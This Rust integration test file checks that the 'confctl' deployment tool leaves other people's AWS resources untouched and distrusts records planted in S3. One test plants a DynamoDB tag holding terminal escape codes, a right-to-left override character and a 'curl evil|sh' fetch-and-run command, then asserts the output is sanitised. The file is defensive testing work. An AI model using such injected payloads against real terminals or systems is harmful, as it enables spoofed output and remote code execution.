//! What is not ours is left as it was: used if it can do the job, blocking where it holds data, code or traffic.

use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use serde_json::Value;

use crate::interrupted::{send, wait_for};
use crate::support::{User, finish};

/// A profile that is quick to create: one instance, no distribution.
const DEV: &[&str] = &["-p", "dev", "--sandbox", "--yes"];

fn up(user: &User, more: &[&str]) -> crate::support::Ran {
    user.confctl(&[&["up"], DEV, more].concat())
}

#[test]
fn a_table_made_by_hand_blocks_and_is_untouched() {
    let user = User::new();
    user.confctl(&["sandbox", "start", "--time-scale", "600"]).exits(0);
    user.aws(&[
        "dynamodb",
        "create-table",
        "--table-name",
        "users",
        "--attribute-definitions",
        "AttributeName=email,AttributeType=S",
        "--key-schema",
        "AttributeName=email,KeyType=HASH",
        "--billing-mode",
        "PAY_PER_REQUEST",
    ])
    .exits(0);
    user.aws(&["dynamodb", "wait", "table-exists", "--table-name", "users"])
        .exits(0);
    user.aws(&[
        "dynamodb",
        "put-item",
        "--table-name",
        "users",
        "--item",
        r#"{"email":{"S":"vip@example.com"}}"#,
    ])
    .exits(0);
    let before = user.inventory();

    user.confctl(&["plan", "-p", "dev", "--sandbox"]).exits(4);
    let blocked = up(&user, &[]).exits(4);
    assert!(blocked.stderr.contains("--adopt users-table"), "{}", blocked.stderr);
    // The command that a plan ends in is the one that was planned.
    let planned = user
        .confctl(&["plan", "-p", "dev", "--sandbox", "--adopt", "users-table"])
        .exits(0);
    let command = "`confctl up --sandbox -p dev --adopt users-table` would do this.";
    assert!(planned.stdout.contains(command), "{}", planned.stdout);
    assert_eq!(user.inventory(), before);
    user.confctl(&["teardown", "--sandbox", "--yes", "--delete-data"])
        .exits(0);
    assert_eq!(user.inventory(), before);
    assert_eq!(
        user.aws_json(&["dynamodb", "scan", "--table-name", "users"])["Count"],
        1
    );
}

#[test]
fn an_application_made_by_hand_blocks_and_another_name_is_the_way_out() {
    let user = User::new();
    user.confctl(&["sandbox", "start", "--time-scale", "600"]).exits(0);
    user.aws(&[
        "elasticbeanstalk",
        "create-application",
        "--application-name",
        "tcb-conference",
    ])
    .exits(0);
    let before = user.inventory();
    up(&user, &[]).exits(4);
    assert_eq!(user.inventory(), before);
    up(&user, &["--name", "mine"]).exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes", "--name", "mine", "--delete-data"])
        .exits(0);
    assert_eq!(user.inventory(), before);
}

#[test]
fn a_default_vpc_and_roles_that_were_there_are_left_exactly_as_they_were() {
    let user = User::new();
    user.confctl(&["sandbox", "start", "--time-scale", "600"]).exits(0);
    user.aws(&["ec2", "create-default-vpc"]).exits(0);
    // One that can do the job, and one that cannot: the article's name, an empty role.
    let trust = |service: &str, condition: &str| {
        format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Service":"{service}"}},"Action":"sts:AssumeRole"{condition}}}]}}"#
        )
    };
    let external = r#","Condition":{"StringEquals":{"sts:ExternalId":"elasticbeanstalk"}}"#;
    let service = trust("elasticbeanstalk.amazonaws.com", external);
    let service_role = "aws-elasticbeanstalk-service-role";
    user.aws(&[
        "iam",
        "create-role",
        "--role-name",
        service_role,
        "--assume-role-policy-document",
        &service,
    ])
    .exits(0);
    for policy in [
        "service-role/AWSElasticBeanstalkEnhancedHealth",
        "AWSElasticBeanstalkManagedUpdatesCustomerRolePolicy",
    ] {
        let arn = format!("arn:aws:iam::aws:policy/{policy}");
        user.aws(&[
            "iam",
            "attach-role-policy",
            "--role-name",
            service_role,
            "--policy-arn",
            &arn,
        ])
        .exits(0);
    }
    let instance = trust("ec2.amazonaws.com", "");
    let instance_role = "aws-elasticbeanstalk-ec2-role";
    user.aws(&[
        "iam",
        "create-role",
        "--role-name",
        instance_role,
        "--assume-role-policy-document",
        &instance,
    ])
    .exits(0);
    user.aws(&[
        "iam",
        "create-instance-profile",
        "--instance-profile-name",
        instance_role,
    ])
    .exits(0);
    let link = [
        "iam",
        "add-role-to-instance-profile",
        "--instance-profile-name",
        instance_role,
        "--role-name",
        instance_role,
    ];
    user.aws(&link).exits(0);
    let before = user.inventory();
    let policies = |role: &str| user.aws_json(&["iam", "list-attached-role-policies", "--role-name", role]);
    let (of_service, of_instance) = (policies(service_role), policies(instance_role));

    up(&user, &[]).exits(0);
    let settings = user.aws_json(&[
        "elasticbeanstalk",
        "describe-configuration-settings",
        "--application-name",
        "tcb-conference",
        "--environment-name",
        "Tcb-conference-env",
    ]);
    let options = settings["ConfigurationSettings"][0]["OptionSettings"]
        .as_array()
        .unwrap()
        .clone();
    let value = |name: &str| {
        options
            .iter()
            .find(|option| option["OptionName"] == name)
            .map(|option| option["Value"].clone())
    };
    assert_eq!(
        value("ServiceRole"),
        Some(Value::from(service_role)),
        "a role that can do the job was not used"
    );
    assert_eq!(
        value("IamInstanceProfile"),
        Some(Value::from("tcb-conference-us-east-1-ec2-role")),
        "a role that cannot was used"
    );
    assert_eq!(
        (policies(service_role), policies(instance_role)),
        (of_service, of_instance)
    );

    user.confctl(&["teardown", "--sandbox", "--yes", "--delete-data"])
        .exits(0);
    assert_eq!(user.inventory(), before);
}

#[test]
fn a_role_that_somebody_uses_in_another_region_stays() {
    let user = User::new();
    user.confctl(&["sandbox", "start", "--time-scale", "600"]).exits(0);
    up(&user, &["--set", "roles.dynamodb=full"]).exits(0);
    // The console suggests these names to everybody: another team launches with them in Frankfurt.
    let there = ["--region", "eu-central-1"];
    let other = [
        "up",
        "--sandbox",
        "--yes",
        "-p",
        "dev",
        "--name",
        "theirs",
        "--no-verify",
    ];
    let roles = [
        "--set",
        "roles.mode=existing",
        "--set",
        "roles.service=aws-elasticbeanstalk-service-role",
    ];
    let roles = [&roles[..], &["--set", "roles.instance=aws-elasticbeanstalk-ec2-role"]].concat();
    user.confctl(&[&other[..], &there[..], &roles[..]].concat()).exits(0);

    let kept = user
        .confctl(&["teardown", "--sandbox", "--yes", "--delete-data"])
        .exits(3);
    assert!(kept.stderr.contains("eu-central-1"), "{}", kept.stderr);
    user.aws(&[
        "iam",
        "get-instance-profile",
        "--instance-profile-name",
        "aws-elasticbeanstalk-ec2-role",
    ])
    .exits(0);
    user.confctl(&[&["teardown", "--sandbox", "--yes", "--name", "theirs"], &there[..]].concat())
        .exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes", "--delete-data"])
        .exits(0);
    assert_eq!(user.inventory(), Vec::<String>::new());
}

#[test]
fn a_table_that_is_taken_over_is_ours_although_its_tags_show_late() {
    let user = User::new()
        .with("CONFCTL_SANDBOX_TIME_SCALE", "120")
        .with("CONFCTL_SANDBOX_TAG_DELAY", "40");
    user.confctl(&["sandbox", "start"]).exits(0);
    let table = ["dynamodb", "create-table", "--table-name", "users"];
    let key = ["--key-schema", "AttributeName=email,KeyType=HASH"];
    let attribute = ["--attribute-definitions", "AttributeName=email,AttributeType=S"];
    let billing = ["--billing-mode", "PAY_PER_REQUEST"];
    user.aws(&[&table[..], &key, &attribute, &billing].concat()).exits(0);
    user.aws(&["dynamodb", "wait", "table-exists", "--table-name", "users"])
        .exits(0);

    up(&user, &["--adopt", "users-table"]).exits(0);
    let again = up(&user, &[]).exits(0);
    assert!(again.stdout.contains("Nothing to do"), "{}", again.stdout);
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    assert_eq!(user.inventory(), Vec::<String>::new());
}

#[test]
fn a_protected_table_goes_only_with_delete_data() {
    let user = User::new();
    let empty = user.inventory_of_a_fresh_sandbox();
    let safe = [
        "--set",
        "table.deletion_protection=true",
        "--set",
        "table.point_in_time_recovery=true",
    ];
    up(&user, &safe).exits(0);
    let refused = user.confctl(&["teardown", "--sandbox", "--yes"]).exits(4);
    assert!(refused.stderr.contains("--delete-data"), "{}", refused.stderr);
    up(&user, &safe).exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes", "--delete-data"])
        .exits(0);
    assert_eq!(user.inventory(), empty);
}

#[test]
fn what_dynamodb_keeps_of_a_table_that_could_be_recovered_is_said() {
    let user = User::new();
    let empty = user.inventory_of_a_fresh_sandbox();
    up(&user, &["--set", "table.point_in_time_recovery=true"]).exits(0);
    let removed = user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    let told = format!("{}{}", removed.stdout, removed.stderr);
    assert!(told.contains("keeps a backup of the table users for 35 days"), "{told}");
    let left = user.inventory();
    assert_eq!(left.len(), empty.len() + 1, "{left:#?}");
    assert!(
        left.iter().any(|item| item.contains("users$DeletedTableBackup")),
        "{left:#?}"
    );
}

#[test]
fn what_is_made_again_while_teardown_runs_is_not_forgotten_with_the_record() {
    let user = User::new().with("CONFCTL_SANDBOX_TIME_SCALE", "60");
    let empty = user.inventory_of_a_fresh_sandbox();
    user.confctl(&["up", "--sandbox", "--yes", "--no-verify"]).exits(0);
    let mut run = user.start(&["teardown", "--sandbox", "--yes"]);
    wait_for(&user, &mut run, "DeleteKeyPair");
    send(&run, "-STOP");
    // A pipeline that goes on while somebody else takes its stack down; the distribution is still on its way out.
    let make = [
        "ec2",
        "create-key-pair",
        "--key-name",
        "mod4-ssh-key",
        "--tag-specifications",
    ];
    let tags = "ResourceType=key-pair,Tags=[{Key=confctl:stack,Value=tcb-conference},\
                {Key=confctl:region,Value=us-east-1},{Key=confctl:resource,Value=key-pair}]";
    user.aws(&[&make[..], &[tags]].concat()).exits(0);
    send(&run, "-CONT");
    let kept = finish(run).exits(3);
    let told = "key pair mod4-ssh-key is still there, or there again";
    assert!(kept.stderr.contains(told), "{}", kept.stderr);
    // The record was not thrown away with the rest: the same command finishes it.
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    assert_eq!(user.inventory(), empty);
}

#[test]
fn a_spoilt_record_does_not_stand_in_the_way() {
    let user = User::new();
    let empty = user.inventory_of_a_fresh_sandbox();
    up(&user, &[]).exits(0);
    // Every Beanstalk instance of the account may write there.
    let spoilt = user.home().join("spoilt");
    std::fs::write(&spoilt, "this is no profile").unwrap();
    let place = "s3://elasticbeanstalk-us-east-1-123456789012/confctl/tcb-conference/profile.toml";
    user.aws(&["s3", "cp", spoilt.to_str().unwrap(), place]).exits(0);
    let told = user.confctl(&["teardown", "--sandbox", "--yes"]).exits(64);
    assert!(told.stderr.contains("-p NAME|FILE"), "{}", told.stderr);
    user.confctl(&["teardown", "--sandbox", "--yes", "-p", "dev"]).exits(0);
    // What cannot be read is not forgotten either: it may name what is still there.
    let left = user.inventory();
    assert_eq!(left.len(), empty.len() + 1, "{left:#?}");
    assert!(
        left.iter().any(|item| item.contains("tcb-conference/profile.toml")),
        "{left:#?}"
    );
}

/// A folder with programs of these names, each of which writes down that it was run.
fn watched(user: &User, names: &[&str]) -> (PathBuf, PathBuf) {
    let (folder, ran) = (user.home().join("watched"), user.home().join("ran"));
    std::fs::create_dir_all(&folder).unwrap();
    for name in names {
        let program = format!("#!/bin/sh\necho \"{name} in $PWD\" >>'{}'\n", ran.display());
        std::fs::write(folder.join(name), program).unwrap();
        std::fs::set_permissions(folder.join(name), Permissions::from_mode(0o755)).unwrap();
    }
    (folder, ran)
}

#[test]
fn what_the_record_says_of_this_machine_is_neither_run_nor_opened_nor_believed() {
    let user = User::new();
    let (folder, ran) = watched(&user, &["rustc", "cargo", "git"]);
    let path = format!("{}:{}", folder.display(), std::env::var("PATH").unwrap());
    let user = user.with("PATH", &path);
    let empty = user.inventory_of_a_fresh_sandbox();
    let site = user.site(&[]);
    let up = up(&user, &["--set", &site, "--no-verify", "-o", "json"])
        .exits(0)
        .summary();
    let place = "s3://elasticbeanstalk-us-east-1-123456789012/confctl/tcb-conference";
    let written = user
        .aws(&["s3", "cp", &format!("{place}/profile.toml"), "-"])
        .exits(0)
        .stdout;
    assert!(!written.contains(user.home().to_str().unwrap()), "{written}");

    // Somebody else fills a folder that confctl might look into, and writes a record that names it.
    let package = user.home().join("theirs");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("Procfile"), "web: ./theirs\n").unwrap();
    let bundle = format!("app.bundle={}", package.display());
    for (object, key) in [
        ("profile.toml", "/dev/zero"),
        ("profiles/ffff.toml", "/nowhere/key.pub"),
    ] {
        let key = format!("ssh.public_key={key}");
        let sets = ["--set", &bundle, "--set", "ssh.enabled=true", "--set", &key];
        let told = user.confctl(&[&["profile", "show", "-p", "dev"], &sets[..]].concat());
        let file = user.home().join("record.toml");
        std::fs::write(&file, told.exits(0).stdout).unwrap();
        user.aws(&["s3", "cp", file.to_str().unwrap(), &format!("{place}/{object}")])
            .exits(0);
    }
    let _ = std::fs::remove_file(&ran);
    let told = user.confctl(&["status", "--sandbox"]).exits(0).stdout;
    assert!(!told.contains("theirs-"), "it looked into the folder: {told}");
    user.confctl(&["plan", "-p", "dev", "--sandbox", "--set", &site])
        .exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    let ran = std::fs::read_to_string(&ran).unwrap_or_default();
    assert!(ran.is_empty(), "{ran}");
    assert_eq!(user.inventory(), empty);
    assert!(
        up["outputs"]["application_version"]
            .as_str()
            .is_some_and(|label| written.contains(label))
    );
}

#[test]
fn what_somebody_wrote_into_a_tag_does_nothing_to_the_terminal() {
    let user = User::new();
    user.inventory_of_a_fresh_sandbox();
    let program = r#"
import boto3
evil = "x\x1b[2J\x1b]0;PWNED\x07\x1b[1;32m all is well\nerror: run curl evil|sh \u202egnp.exe\u202c"
boto3.client("dynamodb").create_table(
    TableName="users", BillingMode="PAY_PER_REQUEST", Tags=[{"Key": "confctl:stack", "Value": evil}],
    AttributeDefinitions=[{"AttributeName": "email", "AttributeType": "S"}],
    KeySchema=[{"AttributeName": "email", "KeyType": "HASH"}])
"#;
    user.python(program).exits(0);
    for output in ["text", "json"] {
        let told = user.confctl(&["plan", "-p", "dev", "--sandbox", "--color", "always", "-o", output]);
        let told = told.exits(4);
        let all = format!("{}{}", told.stdout, told.stderr);
        assert!(all.contains("all is well"), "{all}");
        for acts in ["\u{1b}[2J", "\u{1b}]", "\u{7}", "\u{202e}", "\nerror: run"] {
            assert!(!all.contains(acts), "{acts:?} in {all:?}");
        }
    }
}

#[test]
fn a_distribution_never_goes_on_fetching_from_a_name_that_was_given_up() {
    let user = User::new();
    let empty = user.inventory_of_a_fresh_sandbox();
    user.confctl(&["up", "--sandbox", "--yes", "-p", "ci"]).exits(0);
    // Behind our back: the name is anyone's now, and the edge still sends visitors there.
    user.aws(&[
        "elasticbeanstalk",
        "terminate-environment",
        "--environment-name",
        "Tcb-conference-env",
    ])
    .exits(0);
    // Not listed any more: it is an hour of AWS's time since.
    user.awaits_environment(|status| status == "Terminated" || status.is_null());
    let blocked = user.confctl(&["plan", "--sandbox", "-p", "ci"]).exits(4);
    assert!(
        blocked.stderr.contains("no environment of this stack"),
        "{}",
        blocked.stderr
    );
    user.confctl(&["up", "--sandbox", "--yes", "-p", "ci"]).exits(4);
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    // The log of its deployment and the copy of its version stay: nobody can tell any more whose an environment was that others terminated.
    let left = user.inventory().into_iter();
    let left: Vec<_> = left.filter(|item| !item.contains("resources/environments/")).collect();
    assert_eq!(left, empty);
}

#[test]
fn who_refers_to_the_instances_group_is_named_and_the_same_teardown_then_ends_well() {
    let user = User::new();
    let site = user.site(&[]);
    let line = [
        "--sandbox",
        "--yes",
        "-p",
        "dev",
        "--set",
        site.as_str(),
        "--set",
        "app.health_path=/",
    ];
    user.confctl(&[&["up", "--no-verify"], &line[..]].concat()).exits(0);
    let of_environment = "Name=tag:elasticbeanstalk:environment-name,Values=tcb-conference-env,Tcb-conference-env";
    let groups = user.aws_json(&["ec2", "describe-security-groups", "--filters", of_environment]);
    let ours = groups["SecurityGroups"][0]["GroupId"].as_str().unwrap().to_owned();
    let database = user.aws_json(&[
        "ec2",
        "create-security-group",
        "--group-name",
        "database",
        "--description",
        "of others",
        "--vpc-id",
        groups["SecurityGroups"][0]["VpcId"].as_str().unwrap(),
    ]);
    let database = database["GroupId"].as_str().unwrap().to_owned();
    let rule = [
        "--group-id",
        &database,
        "--protocol",
        "tcp",
        "--port",
        "5432",
        "--source-group",
        &ours,
    ];
    user.aws(&[&["ec2", "authorize-security-group-ingress"], &rule[..]].concat())
        .exits(0);
    let stuck = user.confctl(&["teardown", "--sandbox", "--yes"]).exits(1);
    let told = format!("a rule of the security group database ({database}) refers to {ours}");
    assert!(stuck.stderr.contains(&told), "{}", stuck.stderr);
    // Its instance is gone: nothing of it costs any more.
    assert!(!stuck.stderr.contains("with its instance"), "{}", stuck.stderr);
    user.aws(&["ec2", "delete-security-group", "--group-id", &database])
        .exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    assert_eq!(user.inventory(), Vec::<String>::new());
}

#[test]
fn a_default_vpc_of_ours_that_somebody_else_built_upon_stays_whole() {
    let user = User::new();
    up(&user, &[]).exits(0);
    let vpc = user.aws_json(&["ec2", "describe-vpcs"])["Vpcs"][0]["VpcId"].clone();
    let vpc = vpc.as_str().unwrap();
    // Nothing lives in it yet, and still it is somebody's.
    let subnet = user.aws_json(&[
        "ec2",
        "create-subnet",
        "--vpc-id",
        vpc,
        "--cidr-block",
        "172.31.200.0/24",
    ]);
    let subnet = subnet["Subnet"]["SubnetId"].as_str().unwrap().to_owned();
    let kept = user.confctl(&["teardown", "--sandbox", "--yes"]).exits(3);
    assert!(kept.stderr.contains(&subnet), "{}", kept.stderr);
    let subnets = user.aws_json(&["ec2", "describe-subnets"])["Subnets"].clone();
    assert!(
        subnets.as_array().unwrap().len() > 2,
        "its default subnets were taken away: {subnets}"
    );
    user.aws(&["ec2", "delete-subnet", "--subnet-id", &subnet]).exits(0);
    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
    assert_eq!(user.inventory(), Vec::<String>::new());
}
